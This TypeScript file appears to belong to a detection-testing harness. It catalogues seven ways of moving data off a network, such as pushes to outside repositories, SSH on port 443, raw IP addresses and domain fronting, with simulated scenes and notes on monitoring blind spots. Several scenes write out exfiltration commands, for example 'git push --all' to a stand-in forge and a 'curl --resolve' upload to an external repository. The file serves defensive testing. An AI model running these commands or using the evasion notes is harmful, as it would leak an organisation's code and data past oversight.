/** E1 to E7: how the data gets onto the wire. */
import { overHttp, overSsh } from "../sensors/network.ts";
import { server } from "../servers.ts";
import { pushRequests, run, send, SECOND, type Evasion } from "./scene.ts";

const MEGABYTE = 1_000_000;

export const transport: readonly Evasion[] = [
  {
    id: "E1",
    title: "git over HTTPS",
    signal: "the path of an inspected request, the command line of the endpoint; else name and bytes",
    behaviours: ["push-to-unsanctioned-repository", "volume-anomaly"],
    examples: {
      "seen-inspected": {
        lanes: ["url"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(11), "github.com", pushRequests("n1ght/notes", 4 * MEGABYTE), {
            userAgent: "git/2.47.1",
          }),
      },
      "seen-endpoint": {
        lanes: ["endpoint"],
        play: (scene) =>
          void run(scene, scene.developer, scene.time(11), ["git", "push", "https://github.com/n1ght/notes.git"]),
      },
      "seen-bytes": {
        lanes: ["sni", "flow"],
        play: (scene) =>
          send(scene, scene.clerk, scene.time(11), "github.com", pushRequests("n1ght/notes", 80 * MEGABYTE)),
      },
    },
    limits:
      "A developer's small push shows neither owner nor purpose where TLS is not inspected and the endpoint keeps no log.",
  },
  {
    id: "E2",
    title: "git over SSH",
    signal: "bytes to the provider's addresses on port 22; the command that ssh is given",
    behaviours: ["push-to-unsanctioned-repository", "volume-anomaly"],
    examples: {
      "seen-endpoint": {
        lanes: ["endpoint"],
        play: (scene) =>
          void run(scene, scene.developer, scene.time(11), [
            "ssh",
            "git@github.com",
            "git-receive-pack 'n1ght/notes.git'",
          ]),
      },
      "seen-flow": {
        lanes: ["flow"],
        play: ({ world, clerk, random, time }) =>
          void overSsh(world, {
            time: time(11),
            host: clerk.workstation,
            user: null,
            process: null,
            server: server("github.com", 22),
            sent: 70 * MEGABYTE,
            received: 4_000,
            random,
          }),
      },
    },
    limits: "SSH never shows the repository on the wire.",
  },
  {
    id: "E3",
    title: "SSH on port 443 (ssh.github.com, altssh.gitlab.com)",
    signal: "SSH instead of TLS on port 443 to a code host",
    behaviours: ["volume-anomaly", "push-to-unsanctioned-repository"],
    examples: {
      "seen-flow": {
        lanes: ["flow"],
        play: ({ world, developer, random, time }) =>
          void overSsh(world, {
            time: time(11),
            host: developer.workstation,
            user: null,
            process: null,
            server: server("ssh.github.com"),
            sent: 60 * MEGABYTE,
            received: 4_000,
            random,
          }),
      },
      "seen-endpoint": {
        lanes: ["endpoint"],
        play: (scene) =>
          void run(scene, scene.developer, scene.time(11), [
            "git",
            "push",
            "ssh://git@ssh.github.com:443/n1ght/notes.git",
            "--all",
          ]),
      },
    },
    limits: "Below ExfilVolumeThreshold the port alone raises nothing.",
  },
  {
    id: "E4",
    title: "Address instead of a name, no lookup",
    signal: "the address lies in the provider's published ranges",
    behaviours: ["volume-anomaly", "api-upload"],
    examples: {
      "seen-flow": {
        lanes: ["flow"],
        play: (scene) =>
          send(scene, scene.clerk, scene.time(11), { name: "140.82.121.4", ip: "140.82.121.4", port: 443 }, [
            { method: "POST", path: "/", sent: 60 * MEGABYTE },
          ]),
      },
      "seen-endpoint": {
        lanes: ["endpoint"],
        play: (scene) =>
          void run(scene, scene.developer, scene.time(11), [
            "curl",
            "--resolve",
            "api.github.com:443:140.82.121.6",
            "-X",
            "PUT",
            "-d",
            "@b.json",
            "https://api.github.com/repos/n1ght/notes/contents/b",
          ]),
      },
    },
    limits: "A code host behind shared addresses of a delivery network has none of its own.",
  },
  {
    id: "E5",
    title: "Lookups over HTTPS, encrypted server names",
    signal: "addresses and bytes; no lookup, no name",
    behaviours: ["volume-anomaly"],
    examples: {
      "seen-own-addresses": {
        lanes: ["flow"],
        play: (scene) =>
          send(scene, scene.clerk, scene.time(11), server("github.com"), [
            { method: "POST", path: "/", sent: 65 * MEGABYTE },
          ]),
      },
      "unseen-shared-addresses": {
        lanes: ["flow"],
        play: (scene) =>
          send(scene, scene.clerk, scene.time(11), { name: "forge.example", ip: "203.0.113.77", port: 443 }, [
            { method: "POST", path: "/", sent: 65 * MEGABYTE },
          ]),
      },
    },
    limits: "Without a name a forge behind shared addresses is any web site.",
  },
  {
    id: "E6",
    title: "Another name in front: fronting, an alias of one's own",
    signal: "the address behind the name",
    behaviours: ["volume-anomaly"],
    examples: {
      "seen-alias": {
        lanes: ["flow", "sni"],
        play: (scene) =>
          send(
            scene,
            scene.clerk,
            scene.time(11),
            { name: "static.night-desk.example", ip: "140.82.121.4", port: 443 },
            [{ method: "POST", path: "/", sent: 70 * MEGABYTE }],
          ),
      },
      "unseen-fronted": {
        lanes: ["flow", "sni"],
        play: (scene) =>
          send(scene, scene.clerk, scene.time(11), { name: "cdn.fast-edge.example", ip: "203.0.113.80", port: 443 }, [
            { method: "POST", path: "/", sent: 70 * MEGABYTE },
          ]),
      },
    },
    limits: "Where a delivery network stands in front of the forge, name and address are the network's.",
  },
  {
    id: "E7",
    title: "A forge of one's own, on no list",
    signal: "git's own paths, its program's name in the request, its command line",
    behaviours: ["unsanctioned-forge", "push-to-unsanctioned-repository"],
    examples: {
      "seen-inspected": {
        lanes: ["url"],
        play: (scene) =>
          send(
            scene,
            scene.developer,
            scene.time(11),
            { name: "code.night-desk.example", ip: "203.0.113.70", port: 443 },
            pushRequests("n1ght/notes", 3 * MEGABYTE),
            { userAgent: "git/2.47.1" },
          ),
      },
      "seen-in-the-clear": {
        lanes: ["url", "flow"],
        play: ({ world, developer, random, time }) =>
          void overHttp(world, {
            time: time(11),
            host: developer.workstation,
            user: null,
            process: null,
            server: { name: "203.0.113.70", ip: "203.0.113.70", port: 3000 },
            resolves: false,
            requests: pushRequests("n1ght/notes", 3 * MEGABYTE),
            userAgent: "git/2.47.1",
            random,
          }),
      },
      "seen-endpoint": {
        lanes: ["endpoint"],
        play: (scene) => {
          run(scene, scene.developer, scene.time(11), [
            "git",
            "remote",
            "add",
            "b",
            "https://code.night-desk.example/n1ght/notes.git",
          ]);
          run(scene, scene.developer, scene.time(11) + 9 * SECOND, ["git", "push", "b", "--all"]);
        },
      },
      "unseen-name-only": {
        lanes: ["sni", "flow"],
        play: (scene) =>
          send(
            scene,
            scene.developer,
            scene.time(11),
            { name: "code.night-desk.example", ip: "203.0.113.70", port: 443 },
            pushRequests("n1ght/notes", 3 * MEGABYTE),
          ),
      },
    },
    limits: "Neither inspected nor logged on the endpoint, an unknown forge is any web site.",
  },
];
